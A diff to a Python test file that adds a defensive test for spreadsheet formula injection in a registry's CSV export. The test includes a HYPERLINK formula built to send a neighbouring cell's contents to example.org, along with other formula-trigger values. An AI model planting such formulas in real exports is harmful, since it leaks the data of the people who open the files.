@@ -5,6 +5,7 @@ Round trip: export(import_(f)) gives f, for every f that `export` writes.
 
 from __future__ import annotations
 
+import csv
 import io
 import tempfile
 from pathlib import Path
@@ -69,6 +70,20 @@ def test_hostile_files_raise_only_our_errors(lines: list[str], with_head: bool) 
         except WeighbridgeError:
             assert list(registry.everything()) == []
         registry.close()
+
+
+def test_a_site_that_a_spreadsheet_would_execute_is_only_shown(tmp_path: Path) -> None:
+    """The attack: a Prover names its site by a formula that sends the next cell of the inspectorate's table away."""
+    formula = '=HYPERLINK("https://example.org/?"&A2,"kiel")'
+    first, second = Registry(tmp_path / "first.db"), Registry(tmp_path / "second.db")
+    for number, (owner, site) in enumerate([("acme", formula), ("@SUM(1)", "+1+1"), ("'=1", "-2"), ("acme", "kiel")]):
+        first.register(Chip(ueid=ueid(number), address="localhost:1", owner=owner, site=site))
+    text = exported(first)
+    cells = [(row[2], row[3]) for row in csv.reader(io.StringIO(text))][1:]
+    assert cells == [("acme", f"'{formula}"), ("'@SUM(1)", "'+1+1"), ("''=1", "-2"), ("acme", "kiel")]
+    assert import_(second, io.StringIO(text)) == 4
+    assert [each.site for each in second.everything()] == [each.site for each in first.everything()]
+    assert exported(second) == text
 
 
 def test_custody_survives_as_a_listing(tmp_path: Path) -> None:
